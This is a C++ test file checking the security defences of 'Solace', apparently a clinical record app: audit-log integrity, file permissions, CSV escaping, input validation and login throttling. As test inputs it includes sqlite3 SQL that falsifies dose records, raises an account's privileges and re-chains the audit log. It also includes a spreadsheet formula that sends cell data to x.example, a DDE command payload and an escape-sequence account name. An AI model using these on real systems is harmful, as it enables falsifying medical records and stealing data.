// Integrity, second round (issue 13): edits made to the file with the stock sqlite3 shell (which
// leaves recursive_triggers off) are refused or found, a dropped guard stops Solace writing, and
// a log re-chained or cut short is caught by the heads kept outside the file.
#include <catch2/catch.hpp>

#include <cstdio>
#include <cstdlib>

#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/wait.h>

#include "app/anchor.hpp"
#include "app/audit.hpp"
#include "app/backup.hpp"
#include "app/integrity.hpp"
#include "app/process.hpp"
#include "domain/error.hpp"
#include "entries.hpp"
#include "interop/csv.hpp"
#include "interop/fhir_export.hpp"
#include "interop/import.hpp"
#include "reliability_support.hpp"
#include "store/audit_repository.hpp"
#include "store/login_throttle.hpp"

using namespace solace;
using namespace solace::reliability;
using solace::store::Database;
using solace::test::run_solace;
using namespace std::chrono_literals;

namespace {

struct ShellResult {
    int exit_code = 0;
    std::string output; // stdout and stderr
};

// Runs `sql` through Debian's sqlite3 shell, as someone with the laptop and the file would.
ShellResult sqlite3_shell(const std::filesystem::path& db, const std::string& sql,
                          const test::TempDir& dir) {
    const auto script = dir / "attack.sql";
    test::write_file(script, sql);
    const auto cmd = "sqlite3 -bail '" + db.string() + "' < '" + script.string() + "' 2>&1";
    ShellResult r;
    FILE* p = ::popen(cmd.c_str(), "r");
    REQUIRE(p != nullptr);
    char buf[512];
    while (const auto n = std::fread(buf, 1, sizeof buf, p))
        r.output.append(buf, n);
    r.exit_code = ::pclose(p);
    return r;
}

// The shell's view of one value.
std::string shell_value(const std::filesystem::path& db, const std::string& sql,
                        const test::TempDir& dir) {
    auto out = sqlite3_shell(db, sql, dir).output;
    while (!out.empty() && out.back() == '\n')
        out.pop_back();
    return out;
}

struct StateHome {
    test::TempDir dir;
    std::string old;
    bool had = false;
    StateHome() {
        if (const char* v = std::getenv("XDG_STATE_HOME")) {
            old = v;
            had = true;
        }
        ::setenv("XDG_STATE_HOME", dir.path.c_str(), 1);
    }
    ~StateHome() {
        if (had)
            ::setenv("XDG_STATE_HOME", old.c_str(), 1);
        else
            ::unsetenv("XDG_STATE_HOME");
    }
};

void busy_day(Clinic& c) {
    test::record_visit(*c.ann, core_visit("P1", at_utc(2026, 3, 2, 10), 8));
    add_account(*c.db, "maria", Role::family, false, {1}, "maria-password");
    test::record_dose(*c.ann,
                      {"P1", "oxy-ir", at_utc(2026, 3, 2, 11), DoseStatus::refused, "refused", ""});
}

store::AuditVerification verify_as_admin(const std::filesystem::path& path) {
    Database db(path, Database::Mode::open_existing);
    const app::Session admin(db, *store::AccountRepository(db).find("ann"));
    return app::verify_audit(admin);
}

} // namespace

TEST_CASE("The sqlite3 shell cannot replace a clinical row or an account", "[security][sqlite3]") {
    StateHome state;
    Clinic c;
    busy_day(c);
    c.close();
    const auto before =
        shell_value(c.path, "SELECT group_concat(status) FROM administration;", c.dir);

    SECTION("a refused dose turned into a held one by its id") {
        const auto r = sqlite3_shell(
            c.path,
            "INSERT OR REPLACE INTO administration (id, patient_id, medication_id, given_at, "
            "status, reason, reporter, author_id, recorded_at, uuid, device, counter) SELECT id, "
            "patient_id, medication_id, given_at, 'held', 'asleep', reporter, author_id, "
            "recorded_at, uuid, device, counter FROM administration LIMIT 1;",
            c.dir);
        CHECK(r.exit_code != 0);
        CHECK_THAT(r.output, Catch::Contains("never replaced"));
    }
    SECTION("a score rewritten through its uuid under a new id") {
        const auto r = sqlite3_shell(
            c.path,
            "INSERT OR REPLACE INTO observation (patient_id, visit_id, item, value, reporter, "
            "observed_at, author_id, recorded_at, uuid, device, counter) SELECT patient_id, "
            "visit_id, item, 0, reporter, observed_at, author_id, recorded_at, uuid, device, "
            "counter FROM observation WHERE item = 'pain';",
            c.dir);
        CHECK(r.exit_code != 0);
        CHECK_THAT(r.output, Catch::Contains("never replaced"));
    }
    SECTION("an account replaced by name, to give it a known password") {
        const auto r = sqlite3_shell(
            c.path,
            "INSERT OR REPLACE INTO account (name, role, password_hash, created_at, uuid, device, "
            "counter) SELECT 'maria', 'nurse', password_hash, created_at, "
            "'0190f3c2-7a1b-7c3d-8e4f-506172839405', device, 999 FROM account LIMIT 1;",
            c.dir);
        CHECK(r.exit_code != 0);
    }
    SECTION("the device counter reset") {
        const auto r = sqlite3_shell(
            c.path,
            "INSERT OR REPLACE INTO local_device (one, uuid, next_counter) SELECT 1, uuid, 1 "
            "FROM local_device;",
            c.dir);
        CHECK(r.exit_code != 0);
    }
    CHECK(shell_value(c.path, "SELECT group_concat(status) FROM administration;", c.dir) == before);
    CHECK(verify_as_admin(c.path).ok());
}

TEST_CASE("A family account made an admin nurse with the sqlite3 shell is found by audit verify",
          "[security][sqlite3]") {
    StateHome state;
    Clinic c;
    busy_day(c);
    c.close();
    const auto r = sqlite3_shell(
        c.path,
        "INSERT INTO account_version (account_id, role, is_admin, password_hash, disabled, "
        "recorded_at, uuid, device, counter) SELECT account_id, 'nurse', 1, password_hash, 0, "
        "recorded_at + 1, '0190f3c2-7a1b-7c3d-8e4f-506172839406', device, 9999 FROM "
        "account_version WHERE account_id = (SELECT id FROM account WHERE name = 'maria');",
        c.dir);
    REQUIRE(r.exit_code == 0);
    const auto v = verify_as_admin(c.path);
    CHECK_FALSE(v.ok());
    CHECK_THAT(v.problem, Catch::Contains("account_version") && Catch::Contains("outside Solace"));
}

TEST_CASE("A guard dropped with the sqlite3 shell is reported and Solace writes nothing more",
          "[security][sqlite3]") {
    StateHome state;
    Clinic c;
    busy_day(c);
    c.close();
    REQUIRE(sqlite3_shell(c.path, "DROP TRIGGER observation_no_update;", c.dir).exit_code == 0);
    const auto counter = shell_value(c.path, "SELECT next_counter FROM local_device;", c.dir);
    const auto events = shell_value(c.path, "SELECT count(*) FROM audit_log;", c.dir);

    Database db(c.path, Database::Mode::open_existing);
    REQUIRE(db.schema_problem());
    CHECK_THAT(*db.schema_problem(), Catch::Contains("trigger observation_no_update was removed") &&
                                         Catch::Contains("will not write"));
    const app::Session ann(db, *store::AccountRepository(db).find("ann"));
    CHECK_THROWS_WITH(test::record_visit(ann, core_visit("P1", at_utc(2026, 3, 3, 10), 5)),
                      Catch::Contains("changed outside Solace"));
    CHECK(app::check_database(db).has_value());
    CHECK_THROWS_AS(app::Session::login(db, "ann", admin_password), StoreError);

    const std::vector<std::string> env{std::string("SOLACE_PASSWORD=") + admin_password};
    const auto check = run_solace({"check", "--db", c.path.string()});
    CHECK(check.exit_code != 0);
    CHECK_THAT(check.err, Catch::Contains("observation_no_update"));
    const auto verify =
        run_solace({"audit", "verify", "--db", c.path.string(), "--user", "ann"}, env);
    CHECK(verify.exit_code != 0);
    CHECK_THAT(verify.err, Catch::Contains("observation_no_update"));

    SECTION("an extra trigger is reported too") {
        REQUIRE(sqlite3_shell(
                    c.path, "CREATE TRIGGER quiet AFTER INSERT ON observation BEGIN SELECT 1; END;",
                    c.dir)
                    .exit_code == 0);
        CHECK_THAT(*Database(c.path, Database::Mode::open_existing).schema_problem(),
                   Catch::Contains("trigger"));
    }
    CHECK(shell_value(c.path, "SELECT next_counter FROM local_device;", c.dir) == counter);
    CHECK(shell_value(c.path, "SELECT count(*) FROM audit_log;", c.dir) == events);
}

TEST_CASE("A log cut short or re-chained is caught by the heads kept outside the file",
          "[security][audit]") {
    StateHome state;
    Clinic c;
    busy_day(c);
    test::record_visit(*c.ann, core_visit("P1", at_utc(2026, 3, 3, 10), 5));
    for (int i = 0; i < 3; ++i) // events that record no rows: only their chain vouches for them
        app::Session::login(*c.db, "ann", admin_password);
    {
        const auto head = app::audit_head(*c.db);
        REQUIRE(head);
        const auto kept = test::read_file(app::anchor_path(*c.db, "ann"));
        CHECK(kept.starts_with(std::to_string(head->id) + " "));
        struct stat st {};
        REQUIRE(::stat(app::anchor_path(*c.db, "ann").c_str(), &st) == 0);
        CHECK((st.st_mode & 0777) == 0600);
    }
    c.close();
    REQUIRE(verify_as_admin(c.path).ok());
    // The guards are put back afterwards, byte for byte, as a careful attacker would.
    const auto guards =
        shell_value(c.path,
                    "SELECT group_concat(sql || ';', char(10)) FROM sqlite_schema WHERE name IN "
                    "('audit_log_no_update', 'audit_log_no_delete');",
                    c.dir);

    SECTION("the last event removed") {
        REQUIRE(
            sqlite3_shell(c.path,
                          "DROP TRIGGER audit_log_no_update; DROP TRIGGER audit_log_no_delete; "
                          "DELETE FROM audit_log WHERE id = (SELECT max(id) FROM audit_log);\n" +
                              guards,
                          c.dir)
                .exit_code == 0);
        {
            Database db(c.path, Database::Mode::open_existing);
            REQUIRE_FALSE(db.schema_problem());
            REQUIRE(store::AuditRepository(db).verify().ok()); // the chain alone looks whole
        }
        const auto v = verify_as_admin(c.path);
        CHECK_FALSE(v.ok());
        CHECK_THAT(v.problem, Catch::Contains("cut from its end"));
    }
    SECTION("a detail rewritten and every later hash recomputed") {
        {
            Database db(c.path, Database::Mode::open_existing);
            db.exec("DROP TRIGGER audit_log_no_update; DROP TRIGGER audit_log_no_delete");
            db.exec("UPDATE audit_log SET detail = 'nothing' WHERE id = (SELECT max(id) - 1 FROM "
                    "audit_log)");
            db.exec("WITH RECURSIVE chain (id, hash) AS (SELECT id, hash FROM audit_log WHERE id "
                    "= (SELECT max(id) - 2 FROM audit_log) UNION ALL SELECT a.id, "
                    "solace_audit_hash(chain.hash, a.id, a.at, a.account, a.action, a.patient_id, "
                    "a.detail) FROM chain JOIN audit_log AS a ON a.id = chain.id + 1) UPDATE "
                    "audit_log SET hash = chain.hash FROM chain WHERE chain.id = audit_log.id AND "
                    "audit_log.id >= (SELECT max(id) - 1 FROM audit_log)");
            db.exec(guards);
            REQUIRE_FALSE(db.schema_problem());
            REQUIRE(store::AuditRepository(db).verify().ok()); // the chain alone looks whole
        }
        const auto v = verify_as_admin(c.path);
        CHECK_FALSE(v.ok());
        CHECK_THAT(v.problem, Catch::Contains("rewritten"));
    }
}

TEST_CASE("solace check --full runs integrity_check", "[security][cli]") {
    Clinic c;
    busy_day(c);
    c.close();
    const auto r = run_solace({"check", "--full", "--db", c.path.string()});
    CHECK(r.exit_code == 0);
    CHECK_THAT(r.out, Catch::Contains("integrity_check"));
}

TEST_CASE("Solace's own import lifts the bulk guards only inside its transaction",
          "[security][import]") {
    Clinic c;
    {
        store::Transaction tx(*c.db);
        c.db->lift_bulk_guards();
        RawDb raw(c.path); // another connection still sees them while the import runs
        CHECK(raw.scalar("SELECT count(*) FROM sqlite_schema WHERE name = "
                         "'observation_no_replace'") == 1);
        tx.commit();
    }
    {
        store::Transaction tx(*c.db);
        c.db->lift_bulk_guards(); // rolled back: nothing to put back
    }
    c.close();
    Database db(c.path, Database::Mode::open_existing);
    CHECK_FALSE(db.schema_problem());
}

namespace {
// Runs `f` with the umask 000 an attacker would hope for, then puts the old one back.
template <class F> void under_umask_000(F&& f) {
    const auto old = ::umask(0);
    try {
        f();
    } catch (...) {
        ::umask(old);
        throw;
    }
    ::umask(old);
}

unsigned mode_of(const std::filesystem::path& p) {
    struct stat st {};
    REQUIRE(::lstat(p.c_str(), &st) == 0);
    return st.st_mode & 0777;
}

const std::vector<std::string> password_env{std::string("SOLACE_PASSWORD=") + admin_password};
} // namespace

TEST_CASE("Every file Solace writes is private, never through a link and never over a file "
          "unasked",
          "[security][files]") {
    StateHome state;
    Clinic c;
    busy_day(c);
    c.close();
    const auto db = c.path.string();
    const auto solace = [&](std::vector<std::string> args) {
        args.insert(args.end(), {"--db", db, "--user", "ann"});
        return run_solace(args, {password_env[0], "SOLACE_BACKUP_PASSPHRASE=long enough phrase"});
    };
    under_umask_000([&] {
        SECTION("CSV export") {
            const auto out = c.dir / "csv";
            REQUIRE(solace({"export", "csv", "--out", out.string()}).exit_code == 0);
            CHECK(mode_of(out) == 0700);
            for (const auto* f : {"patients.csv", "observations.csv", "medications.csv",
                                  "administrations.csv", "corrections.csv"})
                CHECK(mode_of(out / f) == 0600);
            const auto again = solace({"export", "csv", "--out", out.string()});
            CHECK(again.exit_code != 0);
            CHECK_THAT(again.err,
                       Catch::Contains("already exists") && Catch::Contains("--overwrite"));
            CHECK(solace({"export", "csv", "--out", out.string(), "--overwrite"}).exit_code == 0);
            std::filesystem::remove(out / "patients.csv");
            test::write_file(c.dir / "elsewhere", "not yours\n");
            std::filesystem::create_symlink(c.dir / "elsewhere", out / "patients.csv");
            const auto linked = solace({"export", "csv", "--out", out.string(), "--overwrite"});
            CHECK(linked.exit_code != 0);
            CHECK_THAT(linked.err, Catch::Contains("symbolic link"));
            CHECK(test::read_file(c.dir / "elsewhere") == "not yours\n");
        }
        SECTION("the weekly summary PDF") {
            const auto pdf = c.dir / "week.pdf";
            REQUIRE(
                solace({"report", "--patient", "P1", "--week", "2026-W10", "--out", pdf.string()})
                    .exit_code == 0);
            CHECK(mode_of(pdf) == 0600);
            CHECK(solace({"report", "--patient", "P1", "--week", "2026-W10", "--out", pdf.string()})
                      .exit_code != 0);
            std::filesystem::remove(pdf);
            std::filesystem::create_symlink(c.dir / "elsewhere.pdf", pdf);
            const auto linked = solace({"report", "--patient", "P1", "--week", "2026-W10", "--out",
                                        pdf.string(), "--overwrite"});
            CHECK(linked.exit_code != 0);
            CHECK_FALSE(std::filesystem::exists(c.dir / "elsewhere.pdf"));
        }
        SECTION("FHIR Bundles") {
            const auto out = c.dir / "fhir";
            REQUIRE(solace({"export", "fhir", "--out", out.string()}).exit_code == 0);
            CHECK(mode_of(out) == 0700);
            CHECK(mode_of(out / "P1.json") == 0600);
            CHECK(solace({"export", "fhir", "--out", out.string()}).exit_code != 0);
            CHECK(solace({"export", "fhir", "--out", out.string(), "--overwrite"}).exit_code == 0);
        }
        SECTION("backups") {
            const auto out = c.dir / "b.solace-backup";
            REQUIRE(solace({"backup", "--out", out.string()}).exit_code == 0);
            CHECK(mode_of(out) == 0600);
            CHECK(solace({"backup", "--out", out.string()}).exit_code != 0);
        }
    });
    // Nothing half-written is left beside the targets.
    for (const auto& e : std::filesystem::recursive_directory_iterator(c.dir.path))
        CHECK(e.path().filename().string().find(".partial") == std::string::npos);
}

TEST_CASE("CSV export escapes cells a spreadsheet would run, and import takes the mark off",
          "[security][csv]") {
    StateHome state;
    Clinic c;
    auto hostile = make_patient("P2");
    hostile.name = "=HYPERLINK(\"http://x.example/?\"&A1,\"help\")";
    app::add_patient(*c.ann, hostile);
    c.close();
    const auto db = c.path.string();
    REQUIRE(run_solace(
                {"export", "csv", "--out", (c.dir / "safe").string(), "--db", db, "--user", "ann"},
                password_env)
                .exit_code == 0);
    REQUIRE(run_solace({"export", "csv", "--raw", "--out", (c.dir / "raw").string(), "--db", db,
                        "--user", "ann"},
                       password_env)
                .exit_code == 0);
    const auto safe = test::read_file(c.dir / "safe" / "patients.csv");
    CHECK_THAT(safe, Catch::Contains("\"'=HYPERLINK("));
    CHECK_THAT(safe, !Catch::Contains(",\"=HYPERLINK("));
    CHECK_THAT(test::read_file(c.dir / "raw" / "patients.csv"), Catch::Contains("\"=HYPERLINK("));
    // Imported back, the name is the one typed.
    {
        Clinic fresh;
        auto text = test::read_file(c.dir / "safe" / "patients.csv");
        if (const auto p1 = text.find("\nP1,"); p1 != std::string::npos) // fresh has its own P1
            text.erase(p1 + 1, text.find('\n', p1 + 1) - p1);
        interop::import_csv(*fresh.ann, interop::CsvKind::patients, text);
        CHECK(fresh.ann->patient("P2").name == hostile.name);
    }
    for (const auto* cell :
         {"=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "'=x", "plain"})
        CHECK(interop::unescape_formula(interop::escape_formula(cell)) == cell);
    CHECK(interop::escape_formula("@SUM(A1)") == "'@SUM(A1)");
    CHECK(interop::escape_formula("'=x") == "''=x");
}

TEST_CASE("Exports and reads are in the audit log, per patient, before the data leaves",
          "[security][audit]") {
    StateHome state;
    Clinic c;
    busy_day(c);
    c.close();
    const auto db = c.path.string();
    REQUIRE(run_solace({"flags", "--db", db, "--user", "ann"}, password_env).exit_code == 0);
    REQUIRE(run_solace(
                {"export", "csv", "--out", (c.dir / "out").string(), "--db", db, "--user", "ann"},
                password_env)
                .exit_code == 0);
    const auto list =
        run_solace({"audit", "list", "--patient", "P1", "--db", db, "--user", "ann"}, password_env);
    REQUIRE(list.exit_code == 0);
    CHECK_THAT(list.out, Catch::Contains("read.flags") && Catch::Contains("export.csv"));
    // A refused export (a link where a file goes) writes nothing and logs nothing.
    std::filesystem::create_directories(c.dir / "linked");
    std::filesystem::create_symlink(c.dir / "x", c.dir / "linked" / "corrections.csv");
    RawDb raw(c.path);
    const auto before = raw.scalar("SELECT count(*) FROM audit_log WHERE action = 'export.csv'");
    CHECK(run_solace(
              {"export", "csv", "--out", (c.dir / "linked").string(), "--db", db, "--user", "ann"},
              password_env)
              .exit_code != 0);
    CHECK(raw.scalar("SELECT count(*) FROM audit_log WHERE action = 'export.csv'") == before);
    CHECK_FALSE(std::filesystem::exists(c.dir / "linked" / "patients.csv"));
}

TEST_CASE("Restore refuses a stale -wal, -shm or -journal beside the new name",
          "[security][backup]") {
    StateHome state;
    Clinic c;
    busy_day(c);
    const auto backup = c.dir / "b.solace-backup";
    app::backup_database(*c.ann, backup, "long enough phrase", app::interactive_kdf());
    for (const char* suffix : {"-wal", "-shm", "-journal"}) {
        const auto target = c.dir / (std::string("restored") + suffix + ".db");
        test::write_file(target.string() + suffix, "stale");
        CHECK_THROWS_WITH(app::restore_database(backup, target, "long enough phrase"),
                          Catch::Contains(suffix) && Catch::Contains("beside"));
        CHECK_FALSE(std::filesystem::exists(target));
    }
    CHECK_NOTHROW(app::restore_database(backup, c.dir / "restored.db", "long enough phrase"));
}

TEST_CASE("Hostile input is refused with its line and field", "[security][import]") {
    StateHome state;
    Clinic c;
    const auto import = [&](interop::CsvKind kind, const std::string& text) {
        try {
            interop::import_csv(*c.ann, kind, text);
        } catch (const interop::ImportError& e) {
            return std::string(e.what());
        } catch (const ValidationError& e) {
            return std::string(e.what());
        }
        return std::string("imported");
    };
    const std::string patients = "mrn,name,date_of_birth,time_zone,diagnosis\n";
    const std::string obs = "patient,observed_at,symptom,score,reporter,note\n";
    CHECK_THAT(import(interop::CsvKind::patients,
                      patients + "P1" + std::string(1, '\0') + "x,Twin,1950-01-01,UTC,\n"),
               Catch::Contains("line 2") && Catch::Contains("mrn") &&
                   Catch::Contains("control character"));
    CHECK_THAT(import(interop::CsvKind::patients, patients + "P9,Bad \xC3(,1950-01-01,UTC,\n"),
               Catch::Contains("line 2") && Catch::Contains("name") && Catch::Contains("UTF-8"));
    CHECK_THAT(import(interop::CsvKind::patients,
                      patients + "P9,Name,1950-01-01,UTC," + std::string(501, 'd') + "\n"),
               Catch::Contains("diagnosis") && Catch::Contains("501 bytes"));
    CHECK_THAT(import(interop::CsvKind::patients, patients + "P9,Old,1850-01-01,UTC,\n"),
               Catch::Contains("date_of_birth") && Catch::Contains("1900"));
    CHECK_THAT(import(interop::CsvKind::observations, obs + "P1,0001-03-02T10:00,pain,3,nurse,\n"),
               Catch::Contains("line 2") && Catch::Contains("observed_at"));
    CHECK_THAT(import(interop::CsvKind::observations, obs + "P1,9999-03-02T10:00,pain,3,nurse,\n"),
               Catch::Contains("observed_at") && Catch::Contains("future"));
    CHECK_THAT(
        import(interop::CsvKind::observations, obs + "P1,2026-03-02T10:00,pain,\"1\"0,nurse,\n"),
        Catch::Contains("line 2") && Catch::Contains("closing quote"));
    CHECK_THAT(import(interop::CsvKind::observations,
                      "patient,observed_at,symptom,score,score,reporter,note\n"),
               Catch::Contains("twice"));
    CHECK_THAT(import(interop::CsvKind::observations, "\xFF\xFEp\0a\0"), Catch::Contains("UTF-16"));
    // A note keeps its tabs and line breaks.
    CHECK(import(interop::CsvKind::observations,
                 obs + "P1,2026-03-02T10:00,pain,3,nurse,\"first\tline\nsecond\"\n") == "imported");
    CHECK(test::count_rows(*c.db, "patient") == 1);
    // Account names: letters, digits, . - _ and at most 64.
    for (const auto& name : {std::string("ann\x1b[2J"), std::string(100000, 'a'),
                             std::string("two words"), std::string()})
        CHECK_THROWS_AS(add_account(*c.db, name, Role::nurse, false), ValidationError);
    c.close();
    RawDb raw(c.path);
    CHECK(raw.exec("INSERT INTO account (name, role, password_hash, created_at) VALUES "
                   "('evil' || char(27), 'nurse', '$argon2id$x', 0)") == SQLITE_CONSTRAINT);
}

TEST_CASE("A family account names only itself as recorded_by", "[security][import]") {
    StateHome state;
    Clinic c;
    const auto rosa = add_account(*c.db, "rosa", Role::family, false, {1});
    const app::Session family(*c.db, rosa);
    const std::string header = "patient,med,given_at,status,reason,recorded_by\n";
    CHECK_THROWS_WITH(interop::import_csv(family, interop::CsvKind::administrations,
                                          header + "P1,oxy-ir,2026-03-02T10:00,given,,ann\n"),
                      Catch::Contains("line 2") && Catch::Contains("recorded_by"));
    CHECK(interop::import_csv(family, interop::CsvKind::administrations,
                              header + "P1,oxy-ir,2026-03-02T10:00,given,,rosa\n") == 1);
}

TEST_CASE("FHIR file names never meet, even on a disk that ignores case", "[security][fhir]") {
    StateHome state;
    Clinic c;
    app::add_patient(*c.ann, make_patient("P/1"));
    app::add_patient(*c.ann, make_patient("P:1"));
    interop::FhirExport e;
    e.out = c.dir / "fhir";
    const auto files = interop::export_fhir(*c.ann, e, now_utc());
    REQUIRE(files.size() == 3);
    CHECK(files[1].filename() != files[2].filename());
    app::add_patient(*c.ann, make_patient("p1"));
    e.out = c.dir / "fhir2";
    CHECK_THROWS_WITH(interop::export_fhir(*c.ann, e, now_utc()),
                      Catch::Contains("P1") && Catch::Contains("p1"));
    CHECK(std::filesystem::is_empty(c.dir / "fhir2"));
}

TEST_CASE("Sign-in throttling counts every name alike and answers every refusal alike",
          "[security][session]") {
    StateHome state;
    Clinic c;
    add_account(*c.db, "rosa", Role::family, false, {1}, "rosa-password");
    app::set_account_disabled(*c.ann, "rosa", true);
    const auto t = at_utc(2026, 3, 1, 9);
    for (const std::string name : {"nobody", "rosa"}) {
        for (int i = 0; i < 4; ++i)
            CHECK_THROWS_AS(app::Session::login(*c.db, name, "wrong-password", t), PermissionError);
        CHECK_THROWS_AS(app::Session::login(*c.db, name, "wrong-password", t), app::LoginDelayed);
        CHECK_THROWS_AS(app::Session::login(*c.db, name, "rosa-password", t + 1s),
                        app::LoginDelayed);
    }
    // Another process counts into the same row.
    c.close();
    for (int i = 0; i < 5; ++i)
        run_solace({"flags", "--db", c.path.string(), "--user", "ghost"},
                   {"SOLACE_PASSWORD=wrong-password"});
    RawDb raw(store::LoginThrottle::path_for(c.path));
    CHECK(raw.scalar("SELECT failures FROM login_attempt WHERE name = 'ghost'") == 5);
}

TEST_CASE("While an import holds the write lock, wrong passwords are still counted before they "
          "are checked",
          "[security][session]") {
    StateHome state;
    Clinic c;
    const auto t = at_utc(2026, 3, 1, 9);
    RawDb writer(c.path);
    REQUIRE(writer.exec("BEGIN IMMEDIATE") == SQLITE_OK); // as an import holds it
    // A right password signs in at once, writing nothing that waits for the writer.
    CHECK(app::Session::login(*c.db, "ann", admin_password, t).account().name == "ann");
    for (int i = 0; i < 4; ++i)
        CHECK_THROWS_AS(app::Session::login(*c.db, "ann", "wrong-password", t), PermissionError);
    CHECK_THROWS_AS(app::Session::login(*c.db, "ann", "wrong-password", t), app::LoginDelayed);
    // The sixth try, right or wrong, is refused unchecked while the writer still writes.
    CHECK_THROWS_AS(app::Session::login(*c.db, "ann", admin_password, t + 1s), app::LoginDelayed);
    writer.exec("ROLLBACK");
    // Every refusal is on record once the lock is free.
    const auto after = app::Session::login(*c.db, "ann", admin_password, t + 31s);
    std::size_t failed = 0, delayed = 0;
    for (const auto& e : app::audit_entries(after, {})) {
        failed += e.action == "login_failed";
        delayed += e.action == "login_delayed";
    }
    CHECK(failed == 5);
    CHECK(delayed == 1);
}

TEST_CASE("No core dumps, and the password variables leave the environment once read",
          "[security][process]") {
    const pid_t child = ::fork();
    REQUIRE(child >= 0);
    if (child == 0) {
        ::setenv("SOLACE_PASSWORD", "secret-one", 1);
        app::harden_process();
        rlimit core{};
        ::getrlimit(RLIMIT_CORE, &core);
        const bool ok = core.rlim_cur == 0 && ::prctl(PR_GET_DUMPABLE) == 0 &&
                        std::getenv("SOLACE_PASSWORD") == nullptr &&
                        app::secret_variable("SOLACE_PASSWORD") == std::string("secret-one");
        ::_exit(ok ? 0 : 1);
    }
    int status = 0;
    ::waitpid(child, &status, 0);
    CHECK(WIFEXITED(status));
    CHECK(WEXITSTATUS(status) == 0);
}
